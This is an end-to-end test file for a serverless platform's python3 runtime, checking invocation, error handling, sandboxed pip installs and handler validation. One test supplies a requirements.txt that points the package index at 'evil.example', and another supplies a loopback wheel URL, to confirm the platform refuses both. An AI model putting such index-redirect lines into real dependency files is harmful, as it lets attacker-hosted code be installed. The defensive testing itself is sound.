// End to end: the python3 runtime: a handler answers HTTP and direct invokes with the v2 event, a thrown
// error is a 502 with errorType/errorMessage, requirements.txt is installed at build, print and logging reach the
// function's log, and a code-only push reuses the dependency layer.
import test from 'ava';
import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { example, fixture, requireDocker, startLambda, type Lambda } from '../helpers/lambda.js';
import { MANYLINUX_LIBRARIES, hostLibraries } from '../../server/builder/base/rootfs-python.js';

let lambda: Lambda;

test.before(async () => {
  await requireDocker();
  lambda = await startLambda();
  const push = await lambda.push('pymisbehave', fixture('python-misbehave'));
  if (push.code !== 0) throw new Error(`could not deploy pymisbehave: ${push.stderr}`);
});

test.after.always(async () => {
  await lambda?.destroy();
});

interface Entry {
  text: string;
  stream: string;
}

async function waitForLog(name: string, predicate: (texts: string[]) => boolean): Promise<string[]> {
  const deadline = Date.now() + 20_000;
  for (;;) {
    const response = await lambda.api(`/api/v1/functions/${name}/logs`);
    const texts = (await response.text()).split('\n').filter(Boolean).map((line) => (JSON.parse(line) as Entry).text);
    if (predicate(texts)) return texts;
    if (Date.now() > deadline) throw new Error(`not in the log in time; it ends with:\n${texts.slice(-10).join('\n')}`);
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}

test.serial('examples/python-greet: requirements.txt is installed, it answers HTTP and invokes, print and logging reach its log', async (t) => {
  const push = await lambda.push('pygreet', example('python-greet'));
  t.is(push.code, 0, push.stderr);
  t.regex(push.stderr, /Reading lambda\.yaml \(runtime python3, handler app\.handler\)/);
  t.regex(push.stderr, /Installing dependencies from requirements\.txt/);
  t.regex(push.stderr, /Successfully installed humanize-4\.16\.0/);

  const http = await lambda.fetch('/fn/pygreet/?name=Ada');
  t.is(http.status, 200);
  t.is(http.headers.get('content-type'), 'application/json');
  t.deepEqual(await http.json(), { message: 'Hello, Ada!', visitors: '1,234,567' });

  const invoked = await lambda.api('/api/v1/functions/pygreet/invoke', { method: 'POST', body: '{"name":"Grace"}' });
  t.is(invoked.status, 200);
  t.deepEqual(await invoked.json(), { message: 'Hello, Grace!', visitors: '1,234,567' });

  const texts = await waitForLog('pygreet', (lines) => lines.includes('greeting Grace') && lines.some((line) => line.startsWith('REPORT')));
  t.true(texts.includes('greeting Ada'));
  t.true(texts.some((line) => /^START RequestId: \S+ Version: 1$/.test(line)));
  t.true(texts.some((line) => /^\[INFO\]\t\S+Z\t[0-9a-f-]{36}\trequest [0-9a-f-]{36}$/.test(line)), texts.join('\n'));
  t.true(texts.some((line) => /^REPORT RequestId: \S+\tDuration: [\d.]+ ms\t.*Memory Size: 256 MB\t.*Init Duration: [\d.]+ ms\tStatus: success$/.test(line)), texts.join('\n'));
});

test.serial('pip runs in the hardened sandbox; the host\'s local package folders are mounted read-only', async (t) => {
  const seen = new Map<string, { user: string; network: string; readOnly: boolean; capDrop: string[]; binds: string[] }>();
  let done = false;
  const poll = (async () => {
    while (!done) {
      const { stdout } = await promisify(execFile)('docker', ['ps', '-q', '--filter', `label=lambda.server=${lambda.serverId()}`, '--filter', 'label=lambda.sandbox=true']);
      for (const id of stdout.split('\n').filter((line) => line && !seen.has(line))) {
        const inspected = await promisify(execFile)('docker', ['inspect', id]).catch(() => undefined);
        if (!inspected) continue;
        const [info] = JSON.parse(inspected.stdout) as { Config: { User: string }; HostConfig: { NetworkMode: string; ReadonlyRootfs: boolean; CapDrop: string[]; Binds: string[] } }[];
        seen.set(id, { user: info.Config.User, network: info.HostConfig.NetworkMode, readOnly: info.HostConfig.ReadonlyRootfs, capDrop: info.HostConfig.CapDrop, binds: info.HostConfig.Binds });
      }
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
  })();
  let push;
  try {
    push = await lambda.push('pysix', example('python-greet'), { files: { 'requirements.txt': 'six==1.17.0\nhumanize==4.16.0\n' } });
  } finally {
    done = true;
    await poll;
  }
  t.is(push.code, 0, push.stderr);
  t.regex(push.stderr, /Successfully installed humanize-4\.16\.0 six-1\.17\.0/);
  t.true(seen.size >= 1, 'the install container was seen while it ran');
  for (const sandbox of seen.values()) {
    t.is(sandbox.user, '10001:10001');
    t.is(sandbox.network, 'none');
    t.true(sandbox.readOnly);
    t.deepEqual(sandbox.capDrop, ['ALL']);
    t.regex(sandbox.binds[0], /:\/lambda-install:ro$/);
    for (const bind of sandbox.binds) t.regex(bind, /:ro$/);
  }
});

test.serial('a code-only push reuses the installed requirements and the dependency layer', async (t) => {
  const code = "from humanize import intcomma\n\n\ndef handler(event, context):\n    return {'version': 2, 'visitors': intcomma(1000)}\n";
  const push = await lambda.push('pygreet', example('python-greet'), { files: { 'app.py': code } });
  t.is(push.code, 0, push.stderr);
  t.regex(push.stderr, /Dependencies unchanged \(requirements\.txt\): reusing the install [0-9a-f]{12}/);
  t.notRegex(push.stderr, /Installing dependencies/);
  t.regex(push.stderr, /ADD dependencies\.tar \/opt\/ \(cached\)/);
  t.notRegex(push.stderr, /COPY code\/ \/var\/task\/ \(cached\)/);
  t.deepEqual(await (await lambda.fetch('/fn/pygreet/')).json(), { version: 2, visitors: '1,000' });
});

test.serial('a handler that raises: a direct invoke gets 502 with errorType and errorMessage, HTTP hides it, the log has the traceback', async (t) => {
  const invoked = await lambda.api('/api/v1/functions/pymisbehave/invoke', { method: 'POST', body: '{"do":"throw"}' });
  t.is(invoked.status, 502);
  const body = (await invoked.json()) as { error: { code: string; message: string } };
  t.is(body.error.code, 'LAMBDA_ERR_FUNCTION_ERROR');
  t.regex(body.error.message, /QuotaExceeded/);
  t.regex(body.error.message, /over the limit of 3/);

  const cli = await lambda.cli(['invoke', 'pymisbehave', '--data', '{"do":"throw"}']);
  t.not(cli.code, 0);
  t.regex(cli.stderr, /QuotaExceeded.*over the limit of 3/);

  const http = await lambda.fetch('/fn/pymisbehave/?do=throw');
  t.is(http.status, 502);
  const hidden = (await http.json()) as { message: string; requestId: string };
  t.is(hidden.message, 'Internal Server Error');
  t.regex(hidden.requestId, /^[0-9a-f-]{36}$/);

  const texts = await waitForLog('pymisbehave', (lines) => lines.some((line) => line.includes(hidden.requestId) && line.includes('Status: error')));
  t.true(texts.includes('[ERROR] QuotaExceeded: over the limit of 3'));
  t.true(texts.includes('Traceback (most recent call last):'));
  t.true(texts.some((line) => /handlers\/main\.py", line \d+, in handler/.test(line)));
});

test.serial('the v2 event, the context and the result mapping match node20', async (t) => {
  const response = await lambda.fetch('/fn/pymisbehave/some/path?a=1&a=2&b=', {
    method: 'POST',
    headers: { 'content-type': 'application/json', cookie: 'x=1; y=2', 'x-lambda-internal-invoke': 'direct' },
    body: '{"hello":"world"}',
  });
  t.is(response.status, 200);
  const { event, remaining, function: fn } = (await response.json()) as { event: Record<string, any>; remaining: boolean; function: string };
  t.true(remaining);
  t.is(fn, 'pymisbehave');
  t.is(event.version, '2.0');
  t.is(event.rawPath, '/some/path');
  t.is(event.rawQueryString, 'a=1&a=2&b=');
  t.deepEqual(event.queryStringParameters, { a: '1,2', b: '' });
  t.deepEqual(event.cookies, ['x=1', 'y=2']);
  t.is(event.requestContext.http.method, 'POST');
  t.is(event.body, '{"hello":"world"}');
  t.false(event.isBase64Encoded);
  // The gateway strips internal headers: a public caller cannot make its request a direct invoke.
  t.false(Object.keys(event.headers).some((name) => name.startsWith('x-lambda-internal-')));

  const binary = await lambda.fetch('/fn/pymisbehave/', { method: 'POST', headers: { 'content-type': 'application/octet-stream' }, body: new Uint8Array([0, 1, 2]) });
  const binaryEvent = ((await binary.json()) as { event: { body: string; isBase64Encoded: boolean } }).event;
  t.true(binaryEvent.isBase64Encoded);
  t.is(binaryEvent.body, 'AAEC');

  const mapped = await lambda.fetch('/fn/pymisbehave/?do=http');
  t.is(mapped.status, 201);
  t.is(mapped.headers.get('x-made-by'), 'python');
  t.deepEqual(mapped.headers.getSetCookie(), ['a=1', 'b=2']);
  t.deepEqual(Buffer.from(await mapped.arrayBuffer()), Buffer.from('\x00\x01binary', 'latin1'));

  // Output without a final newline still ends before the invocation's END line.
  const partial = await lambda.fetch('/fn/pymisbehave/?do=partial');
  t.is(partial.status, 200);
  const texts = await waitForLog('pymisbehave', (lines) => lines.includes('no newline at the end'));
  const at = texts.indexOf('no newline at the end');
  t.regex(texts[at + 1] ?? '', /^END RequestId: /);
});

test.serial('an async def handler is awaited; a handler in a package folder loads', async (t) => {
  const push = await lambda.push('pyasync', fixture('python-misbehave'), { files: { 'lambda.yaml': 'runtime: python3\nhandler: handlers.aio.handler\n' } });
  t.is(push.code, 0, push.stderr);
  const invoked = await lambda.cli(['invoke', 'pyasync', '--data', '{}']);
  t.is(invoked.code, 0, invoked.stderr);
  const result = JSON.parse(invoked.stdout) as { async: boolean; requestId: string };
  t.true(result.async);
  t.regex(result.requestId, /^[0-9a-f-]{36}$/);
});

test.serial('a python3 handler with a non-Python module name, and a docker manifest with a handler, are refused with key and line', async (t) => {
  const bad = await lambda.push('pybad', fixture('python-misbehave'), { files: { 'lambda.yaml': 'runtime: python3\nhandler: my-module.handler\n' } });
  t.not(bad.code, 0);
  t.regex(bad.stderr, /line 2: handler: expected "module\.function" with Python names/);
  const docker = await lambda.push('dockbad', fixture('python-misbehave'), { files: { 'lambda.yaml': 'runtime: docker\nhandler: app.handler\n' } });
  t.not(docker.code, 0);
  t.regex(docker.stderr, /line 2: handler: is not used by runtime docker/);
});

test.serial('a handler that fails to load rejects the push with its error, file and line; the live version keeps serving', async (t) => {
  const broken = await lambda.push('pymisbehave', fixture('python-misbehave'), { files: { 'handlers/main.py': 'def handler(event, context):\n    return (\n' } });
  t.not(broken.code, 0);
  t.regex(broken.stderr, /Init Error/);
  t.regex(broken.stderr, /handlers\/main\.py", line 2/);
  t.regex(broken.stderr, /SyntaxError/);
  const missing = await lambda.push('pymisbehave', fixture('python-misbehave'), { files: { 'lambda.yaml': 'runtime: python3\nhandler: handlers.main.nothing\n' } });
  t.not(missing.code, 0);
  t.regex(missing.stderr, /Handler 'nothing' missing on module 'handlers\.main'/);
  t.is((await lambda.fetch('/fn/pymisbehave/')).status, 200);
});

test.serial('requirements.txt options that would change the package index are refused', async (t) => {
  const push = await lambda.push('pyoptions', example('python-greet'), { files: { 'requirements.txt': '--index-url https://evil.example/simple\nhumanize\n' } });
  t.not(push.code, 0);
  t.regex(push.stderr, /requirements\.txt line 1: "--index-url https:\/\/evil\.example\/simple": options such as "--index-url" are not supported/);
});

test.serial('a requirement that cannot be had fails the push with pip\'s reason; one that points at another host is refused with its line', async (t) => {
  const missing = await lambda.push('pymissing', example('python-greet'), { files: { 'requirements.txt': 'no-such-package-for-lambda-tests==1.0\n' } });
  t.not(missing.code, 0);
  t.regex(missing.stderr, /installing dependencies failed: .*(No matching distribution|Could not find a version)/);
  // A direct URL to loopback: refused before pip runs (and the proxy would open tunnels to the registry's host only).
  const url = await lambda.push('pyurl', example('python-greet'), { files: { 'requirements.txt': 'humanize @ https://127.0.0.1:9/humanize-4.16.0-py3-none-any.whl\n' } });
  t.not(url.code, 0);
  t.regex(url.stderr, /requirements\.txt line 1: "humanize @ https:\/\/127\.0\.0\.1:9\/humanize-4\.16\.0-py3-none-any\.whl": only plain requirements are supported/);
  t.notRegex(url.stderr, /proxy: /);
  t.is((await lambda.api('/api/v1/functions/pyurl')).status, 404);
});

test.serial('the system libraries a manylinux wheel may link load in a python3 function (the C++ runtime among them)', async (t) => {
  const push = await lambda.push('pymanylinux', fixture('python-manylinux'));
  t.is(push.code, 0, push.stderr);
  const invoked = await lambda.api('/api/v1/functions/pymanylinux/invoke', { method: 'POST', body: '{}' });
  t.is(invoked.status, 200);
  const { missing } = (await invoked.json()) as { missing: Record<string, string> };
  // Each one this machine has goes into the image; the fixture tries the whole list.
  const here = new Set(hostLibraries(MANYLINUX_LIBRARIES, undefined).map((file) => file.split('/').pop()));
  t.true(here.has('libstdc++.so.6') && here.has('libgcc_s.so.1'), 'this machine has the C++ runtime');
  t.deepEqual(Object.keys(missing).filter((name) => here.has(name)), [], JSON.stringify(missing));
});
